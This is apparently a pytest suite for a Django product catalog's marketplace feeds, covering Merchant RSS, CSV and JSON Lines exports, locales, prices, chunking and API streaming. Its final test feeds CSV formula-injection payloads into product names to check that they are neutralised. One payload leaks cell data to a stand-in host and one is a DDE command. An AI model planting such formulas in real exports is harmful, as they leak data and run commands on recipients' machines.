"""Marketplace feeds: well-formed Merchant RSS, CSV and JSON Lines, streamed in chunks."""

import csv
import dataclasses
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.http import StreamingHttpResponse

from catalog.models import Price
from catalog.services.products import product_update
from publishing.feeds import feed_iter, feed_products
from publishing.feeds.files import feed_export_file, feed_export_task
from tests.factories import make_attribute, value

G = "{http://base.google.com/ns/1.0}"


def merchant(web, locale="fi", audience=None) -> ET.Element:
    body = b"".join(feed_iter(kind="merchant", channel=web, locale=locale, audience=audience))
    return ET.fromstring(body)  # raises if not well-formed


@pytest.fixture
def availability(lamp_family):
    attribute = make_attribute("availability", "select", options=("in_stock", "out_of_stock"))
    lamp_family.family_attributes.create(attribute=attribute, position=20)
    return attribute


def test_merchant_feed_is_well_formed_with_required_fields(publish, web, availability):
    product = publish(
        "LAMP-1",
        gtin="4006381333931",
        brand="Valo & Co <Oy>",
        extra_values={"availability": value("out_of_stock")},
    )
    Price.objects.filter(product=product).update(sale_amount="999.00")
    publish("DRAFT", approve=False)
    root = merchant(web)
    (item,) = root.iter("item")
    assert item.findtext(f"{G}id") == "LAMP-1"
    assert item.findtext("title") == "LAMP-1 fi"
    assert item.findtext("link").endswith("/fi/p/lamp-1-fi/")
    assert item.findtext(f"{G}image_link").startswith("http")
    assert item.findtext(f"{G}price") == "1234.50 EUR"
    assert item.findtext(f"{G}sale_price") == "999.00 EUR"
    assert item.findtext(f"{G}availability") == "out_of_stock"
    assert item.findtext(f"{G}gtin") == "4006381333931"
    assert item.findtext(f"{G}brand") == "Valo & Co <Oy>"
    assert item.findtext(f"{G}condition") == "new"
    assert item.findtext(f"{G}mpn") == "LAMP-1"


def test_products_without_sale_price_have_no_sale_price_and_default_to_in_stock(publish, web):
    publish("P")
    (item,) = merchant(web, "fa").iter("item")
    assert item.find(f"{G}sale_price") is None
    assert item.findtext(f"{G}availability") == "in_stock"
    assert item.findtext("title") == "P fa"


def test_feed_respects_locale_completeness_and_audience_prices(publish, web, audiences):
    product = publish("P", locales=("en", "tr", "az", "fa"))
    Price.objects.create(
        product=product, channel=web, currency="EUR", amount="800", audience=audiences["dealer"]
    )
    assert list(merchant(web, "fi").iter("item")) == []
    (item,) = merchant(web, "en", audiences["dealer"]).iter("item")
    assert item.findtext(f"{G}price") == "800.00 EUR"


def test_variants_carry_their_item_group_id(publish, web, lamp_family):
    from catalog.models import Attribute, ProductModel
    from catalog.services.product_models import product_model_save

    model = ProductModel(code="desk-lamp", family=lamp_family, name_en="Desk lamp")
    product_model_save(product_model=model, axes=[Attribute.objects.get(code="colour")])
    publish("V-RED", model=model, extra_values={"colour": value("red")})
    (item,) = merchant(web, "en").iter("item")
    assert item.findtext(f"{G}item_group_id") == "desk-lamp"


def test_csv_and_jsonl_list_the_whole_channel_catalog(publish, web):
    publish("A")
    publish("B", names={"en": "B", "tr": "B", "fi": "B", "az": "B", "fa": "چراغ, «ب»"})
    text = b"".join(feed_iter(kind="csv", channel=web, locale="fa")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["id"] for r in rows] == ["A", "B"]
    assert rows[1]["title"] == "چراغ, «ب»" and rows[1]["price"] == "1234.50 EUR"
    lines = b"".join(feed_iter(kind="jsonl", channel=web, locale="fa")).splitlines()
    products = [json.loads(line) for line in lines]
    assert [p["sku"] for p in products] == ["A", "B"]
    assert products[1]["direction"] == "rtl" and products[1]["price"]["amount"] == "1234.50"


def test_feeds_are_built_in_chunks(publish, web, django_assert_max_num_queries):
    for number in range(5):
        publish(f"P{number}")
    chunks = list(feed_products(channel=web, locale="en", chunk_size=2))
    assert [v.sku for v in chunks] == [f"P{n}" for n in range(5)]


def test_feed_files_are_written_by_the_task_and_the_command(publish, web, tmp_path):
    publish("P")
    path = feed_export_file(kind="jsonl", channel=web, locale="en")
    with default_storage.open(path) as handle:
        assert b'"sku":"P"' in handle.read()
    result = feed_export_task.enqueue("web", "fi", "merchant")
    assert result.return_value == "feeds/web/fi/products.xml"
    target = tmp_path / "feed.csv"
    call_command(
        "export_feed",
        "--channel",
        "web",
        "--locale",
        "tr",
        "--format",
        "csv",
        "--output",
        str(target),
        stderr=io.StringIO(),
    )
    assert "P tr" in target.read_text("utf-8-sig")


def test_api_streams_the_feed_of_the_clients_channel(publish, web):
    from api.services import api_client_create
    from tests.api.conftest import bearer

    publish("P")
    _c, token = api_client_create(name="Merchant", channel=web)
    response = bearer(token).get("/api/v1/feeds/merchant.xml?locale=tr")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("application/rss+xml")
    root = ET.fromstring(b"".join(response.streaming_content))
    assert [i.findtext(f"{G}id") for i in root.iter("item")] == ["P"]
    response = bearer(token).get("/api/v1/feeds/products.jsonl")
    assert b'"sku":"P"' in b"".join(response.streaming_content)


def test_changes_show_up_in_the_next_feed(publish, web):
    product = publish("P")
    product_update(product=product, texts={"name": {"fi": "Uusi nimi"}})
    (item,) = merchant(web).iter("item")
    assert item.findtext("title") == "Uusi nimi"


def test_links_of_plain_and_unicode_slugs_match_the_web_pages(publish, web):
    """The feed's shortcut for plain slugs gives the address the web app reverses."""
    from publishing.context import build_product_views
    from publishing.feeds.base import product_link
    from publishing.links import product_public_url
    from publishing.selection import select_products

    publish("P")
    (view,) = build_product_views(select_products(channel=web, locale="fa"))
    for slug in (view.slug, "lamp_2-B", "چراغ-سقفی"):
        plain = dataclasses.replace(view, slug=slug)
        assert product_link(plain) == "http://" + product_link(plain).split("://", 1)[1]
        assert product_link(plain).endswith(product_public_url("fa", slug))


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "=1+2", "-2+3+cmd|' /C calc'!A0"],
)
def test_csv_feed_never_hands_a_formula_to_a_spreadsheet(publish, web, name):
    """Text that a spreadsheet would run as a formula gets an apostrophe in front (OWASP);
    prices and links are written unchanged."""
    publish("A", names=dict.fromkeys(("en", "tr", "fi", "az", "fa"), name))
    text = b"".join(feed_iter(kind="csv", channel=web, locale="en")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["title"] == "'" + name
    assert rows[0]["price"] == "1234.50 EUR" and rows[0]["link"].startswith("http")
